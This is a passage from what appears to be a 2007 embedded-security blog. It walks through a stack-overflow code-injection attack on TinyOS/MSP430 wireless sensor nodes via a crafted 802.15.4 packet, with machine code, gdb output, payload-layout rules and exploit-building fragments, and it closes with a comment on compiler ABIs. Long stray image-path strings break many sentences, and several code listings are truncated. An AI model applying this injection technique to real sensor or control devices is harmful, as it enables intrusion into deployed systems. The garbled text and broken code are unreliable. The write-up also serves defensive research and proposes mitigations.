0x4303,//mov r3,r3 (emulating NOP)
0x3fff, //jmp -2

This is a bit crude, in that it overwrites more than just the stored PC. Note, however, that the string can be dropped in with no specialized code in the copying function. In order to view the success of this, the machlang array must be changed to enter an infinite loop when complete. It cannot successfully return because it overwrote more than just the stack pointer it intended to. This is an unavoidable side-effect when the stack is as dense as it is on the MSP430, as the null terminator must be copied--thus unless the high word--that is the latter word in little endian--of the target address happens to be 0x00, the address immediately above that which we intend to overwrite must necessarily be clobbered.

Using a JTAG debugger (TI MSP-FETP430-PIF or TI MSP-FET430-UIF), it's trivial to view the stack. You'll notice that the stack is rather shallow, only two functions deep. As 'BlinkC$Timer0$fired' is called without stack parameters--those that don't fit into registers--a simple RET suffices to return past it. If parameters were on the stack, they could be removed with the POP instruction.

(gdb) break 'BlinkC$setled'
Breakpoint 1 at 0x4d46: file, line 99.
(gdb) continue

Program received signal SIGTRAP, Trace/breakpoint trap.
BlinkC$setled () at
(gdb) where#0 BlinkC$setled () at
#1 0x00004d46 in BlinkC$Timer0$fired () at
#2 0x00004d46 in BlinkC$Timer0$fired () at

A Complete Exploit

Now that we've got machine code and a way to force it onto the stack, we are still left with the issue of knowing at which address it will be. On a workstation, desktop, or server, it's common practice to include NOP instructions before the code you intend to execute, such that you can guess at the target address. On x86 processors, this is particularly easy because of support for a byte-length NOP instruction (0x90) and unaligned access.

Wireless sensor nodes and other embedded systems require a different strategy. The payload of a packet is often so small that a single packet has barely got room for anything interesting, much less a bunch of word-length NOP instructions (0x4303, which is really MOV r3,r3). Fortunately, these systemsemphasize static allocation. malloc() and similar usage of a heap is strongly discouraged, to the point that much documentation claims the method doesn't exist.

A consequence of static allocation is that of twenty nodes running the same firmware, twenty nodes will have every non-stack variable in the same location. This includes the functions which handle reception of an incoming packet. Thus, the easiest way to inject code into a live wireless sensor node by a single 802.15.4 packet is to craft a packet which--when copied over the stack--overwrites the return address with the address of the global copy of itself, not the stack's copy.

Executing the stack's copy is also possible, of course.

Target Application

For an example of a remote exploit, I threw together a simple application that accepts the shortened name of a color--RED, GREN, or BLUE--within a packet and enables the appropriate LED. The code is below:

void __attribute__ ((noinline))
docmd(radio_count_msg_t* rcm){

char cmd[6];

call Leds.set(1);
call Leds.set(2);
call Leds.set(4);

event message_t* Receive.receive(message_t* bufPtr,
void* payload, uint8_t len) {char cmd[6];
radio_count_msg_t* rcm = (radio_count_msg_t*)payload;

return bufPtr;

The first step is to determine where the packet resides in memory on the victim. I suppose it's possible to dig around TinyOS for the symbol of packet, but when debugging symbols might not be available, a more reliable technique is to search for the contents of the last packet sent:
(gdb) x/s 0x2a2
0x2a2: "\006RED"

Trying again for a different packet, at the same address I find
(gdb) x/s 0x2a2
0x2a2: "\006BLUE"

And one last time for the green led, I find
(gdb) x/s 0x2a2
0x2a2: "\006GREN"

At each stage, the light matches the string being given. Thisgives me both good and bad news. The good news is that my packet gets through, the bad news is that it's mis-aligned. The "\006" character is at 0x2a2, which means that the packet's string doesn't beginuntil 0x2a3, which is an odd address. Machine code may only reside at even addresses on the MSP430 and many other processors, with the X86 being a notable exception.

Once the target address is known, crafting an attack is as simple as stuffing the following things into the packet:
1. The executable machine code, even-aligned in the global packet.
2. The entry address off the machine code, even-aligned in the overflow onto the stack, offset such that it overwrites the program counter.
3. A terminating null character or word, such that strcpy() or its equivalent doesn't hit flash ROM.

These rules can be quite a juggling act, but expressed for the above example:
1. Executable code should begin at the second letter of the enclosed string, which will be 0x02a4 on the target.
2. 0x02a4 (0xa4 0x02 as bytes) must reside in bytes 7 and 8 of the string.
3. The string must end in zeros.
4. The first letter must not be a zero.

While it's not terriblydifficult to do these things on paper, it's cleaner to do it in C. First we define our machine code in an array, as we did before:

volatile int machlang[30]={

//to be obliterated

//to be executed
0xe3b2, //inv 0x0031
0x3ffd, //jmp -4

This has a lot of empty space and doesn't contain as much information as it might. The machine code in thesuffix just blinks the LEDs in an infinite while loop, though in practice they blink faster than the human eye can see. The following code packs the machine code and the target address into a single string for sending as a packet. Note that the address and the machine code are differently aligned. This is because the address must be even aligned with the destination of the strcpy(), while the machine code must be evenly aligned in the source.

void __attribute__ ((noinline))
build_exploit(void* vstr)
char *str=(char*)vstr;
//machlang has zeroes, so it may not be used before the address.
//load the machine code, with weird but correct offset.

//load the attack address

attack[8]=0;//zero out end, just in case.


Randomizing addresses would make these attacks more difficult to stage, particularly if every node ran a different build, such that no two nodes would store incoming packets at the same address. The compiler could also push an object of random size onto the stack such that it would follow a sort of drunkard's walk to prevent stack code from being jumped to.

A still more effective alternative would be an addition to the MSP430 itself, one that would branch to an exception handler if the program counter were ever outside of flash memory. This isn't a workstation, and there's rarely any reason to execute instructions from RAM. Thus, a simple register configuration which enabled and disabled execution from RAM would make the platform much more difficult to exploit.As always, null-terminated string functions ofunspecified length should never be used. There are other mistakes that make the stack vulnerable to corruption, but this is by and large the most common. strcpy() and its like should have been culled from the C language decades ago, but they're still with us and still being taught in introductory computer science classes.

I gave an informal introduction to this technique at the 2007 ACS Control Systems Cyber Security Conference in Knoxville, Tennessee. By far, the most common objections were that cryptography made this un-exploitable in practice or that the fence-line prevented malicious packets from reaching the target system.

Although it's true that cryptographically verifying received packets makes code injectionmore difficult, it does not make such injection impossible. Key management must have such a strict policy that a stolen node is de-authorized before an attacker can attach a JTAG cable to forcibly grab the key. Further, the JTAG fuse ought to be burned such that the node must be taken off-site for firmware extraction.

Regarding the fence-line, it's just a line in the sand as far as an attacker is concerned. 2.4Ghz amplifiers are rather easy to acquire, and the 150 meter range listed on the radios spec-sheet doesn't apply when an extra amplifier is attached. Even if we assume that the fence-line is effective--such as on a submarine--it's still possible to either bribe or trick an authorized employee into bringing a transmitter within the fence, or apacket sniffer in and then back out.

Thursday, August 2, 2007

On the IAR MSP430 C Compiler's Inefficient Register Utilization

Recently, I've been digging into the documentation of Texas Instruments' MSP430 micro-controller family. After covering the CPU itself, I continued into the documentation[1] for the mspgcc project, a port of GCC to the MSP430. After realizing that the ABI used for mspgcc had never been defined in the chip's documentation[3], I dug up the manual[2] for IAR's compiler and compared the two.

I quickly discovered that IAR's compiler wastes registers when passing 16-bit parameters to a C function. By its ABI, the first 16-bit parameter is placed into R12 and the second into R14. R13 and R15 remain unused, as they are reserved for the high words of 32-bit parameters. GCC follows the much more logical route of onlyassigning a single register to a 16-bit value, such that R15 is used for the first parameter, R14 for the second, R13 for the third, and R12 for the fourth. This allows it to accept four parameters by register, while IAR's compiler will push the third and fourth onto the stack while leaving two clobber registers unused!

To demonstrate this, I have compiled a simple C program containing only a function foo() which returned the sum of its four inputs and a main() method to call foo(). This was compiled to assembly language using mspgcc 3.2.3 and IAR MSP430 C/C++ Compiler V3.42A/W32.

In both compilers, four assembly instructions were used to add the values and return the result in the single register of the first parameter, R12 for IAR and R15 for GCC. The table below lists the assembly generated by each compiler, with instructions converted from the GCC format (lowercase, .W omitted) to the IAR format for clear comparison. GCC, by virtue of its more efficient register usage, avoids both having to PUSH.W two parameters onto the stack and avoids having to use the indexed addressing mode, as X(SP), within the function.

IAR CompilerGCC CompilerADD.W R14, R12 //1 cycle, 1 word
ADD.W 0x2(SP), R12 //3c,2w
ADD.W 0x4(SP), R12 //3c,2w

ADD.W R14, R15 //1c,1w
ADD.W R13, R15 //1c,1w
ADD.W R12, R15 //1c,1w

Pages 3-72 and 3-73 of the MSP430 Family Guide[3] detail the full cost of these additions, which increase not only the runtime but also the storage requirements of the function. According to those pages, "ADD.W r14,r15" takes 1 cycle and 1 word of memory while "ADD.W 0x2(SP), R12" takes 3 cycles and 2 words of memory. Additionally, each of the two PUSH.W statements required to call foo() in the IAR compiler takes 3 cycles, which are unnecessary in GCC.

Texas Instruments' Code Composer Essentials does not suffer from IAR's inefficiency; rather, it uses an ABI similar to but incompatible with GCC. TICCE allocates register R12 for the first parameter, then R13, R14, andR15. The result is returned in R12. GCC uses registers in the opposite order and returns in R15. See the Users Guide[4] for more details.

What's the reasoning behind IAR'sdesign? It makes functions of two 32-bit values easily compatible with those of two 16-bit values, but this compatibility breaks as soon as the thirdparameter comes into play, which is pushed onto the stack as a single word. If such compatibility were essential, the trick could be maintained by usingR13 for the third parameter and R15 for the fourth.

[1] mspgcc manual
[2] IAR manuals
[3] Texas Instruments's MSP430 Family Guide
[4] MSP430Optimizing C/C++ Compiler User's Guide (SLAU132)